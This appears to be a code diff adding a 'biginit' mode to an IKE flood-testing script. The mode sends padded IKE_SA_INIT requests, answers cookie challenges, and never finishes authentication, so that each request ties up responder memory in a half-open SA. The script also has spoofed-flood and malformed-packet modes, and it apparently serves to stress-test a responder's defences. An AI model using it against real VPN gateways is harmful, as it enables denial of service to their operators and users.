@@ -8,6 +8,13 @@
       IP header: the senders never see an answer, as in a spoofed flood. RATE per second, for
       SECONDS. Prints how many were sent.
 
+  ike_flood.py biginit DST COUNT SIZE
+      COUNT IKE_SA_INIT requests from this host's own address (one UDP socket), each padded with a
+      private-use status notify of SIZE bytes, answering every COOKIE request (RFC 7296 §2.6) as a
+      real client does, so that each one costs the responder a half-open SA holding SIZE bytes.
+      Never completes IKE_AUTH. Prints how many were admitted (answered with an SA), asked for a
+      cookie, and left unanswered (dropped).
+
   ike_flood.py malformed DST COUNT RATE
       COUNT datagrams to DST:500 and DST:4500 that no correct peer sends: truncated IKE headers,
       lengths that lie, payload chains that run past the end, IKE_SA_INITs with garbage payloads,
@@ -190,9 +197,57 @@ def malformed(dst, count, rate):
     print("malformed %s: %d datagrams: %s" % (dst, i, " ".join("%s=%d" % kv for kv in sorted(counts.items()))))
 
 
+NOTIFY, COOKIE = 41, 16390
+
+
+def biginit(dst, count, size):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(0.5)
+    rng = random.Random(21)
+    admitted = cookies = unanswered = 0
+    deadline = time.monotonic() + 90
+    for _ in range(count):
+        if time.monotonic() > deadline:
+            break
+        base = ike_sa_init(rng)  # header + SA + KE + Nonce (the Nonce ends the chain)
+        spi = base[:8]
+        body = bytearray(base[28:])
+        body[-36] = NOTIFY  # the Nonce's next payload: our padding notify
+        pad = struct.pack("!BBHBBH", 0, 0, 8 + size, 0, 0, 40001) + bytes(size)  # private-use status type
+        body = bytes(body) + pad
+        first = PAYLOAD_SA
+        for _attempt in range(2):
+            msg = ike_header(spi, bytes(8), first, IKE_SA_INIT, 0x08, 0, 28 + len(body)) + body
+            s.sendto(msg, (dst, 500))
+            reply = None
+            try:
+                while reply is None:
+                    r = s.recv(65535)
+                    if len(r) >= 28 and r[:8] == spi:
+                        reply = r
+            except socket.timeout:
+                unanswered += 1
+                break
+            if reply[16] == NOTIFY and struct.unpack("!H", reply[34:36])[0] == COOKIE:
+                cookies += 1
+                cookie_len = struct.unpack("!H", reply[30:32])[0] - 8
+                cookie = reply[36:36 + cookie_len]
+                # §2.6: the same request with the cookie as the first payload.
+                body = struct.pack("!BBHBBH", first, 0, 8 + len(cookie), 0, 0, COOKIE) + cookie + body
+                first = NOTIFY
+                continue
+            if reply[16] == PAYLOAD_SA:
+                admitted += 1
+            break
+    print("biginit %s: %d requests of %d bytes: %d admitted, %d cookie requests answered, %d unanswered"
+          % (dst, count, 28 + len(body), admitted, cookies, unanswered))
+
+
 def main(argv):
     if len(argv) == 5 and argv[0] == "spoof":
         spoof(argv[1], argv[2], int(argv[3]), int(argv[4]))
+    elif len(argv) == 4 and argv[0] == "biginit":
+        biginit(argv[1], int(argv[2]), int(argv[3]))
     elif len(argv) == 4 and argv[0] == "malformed":
         malformed(argv[1], int(argv[2]), int(argv[3]))
     else:
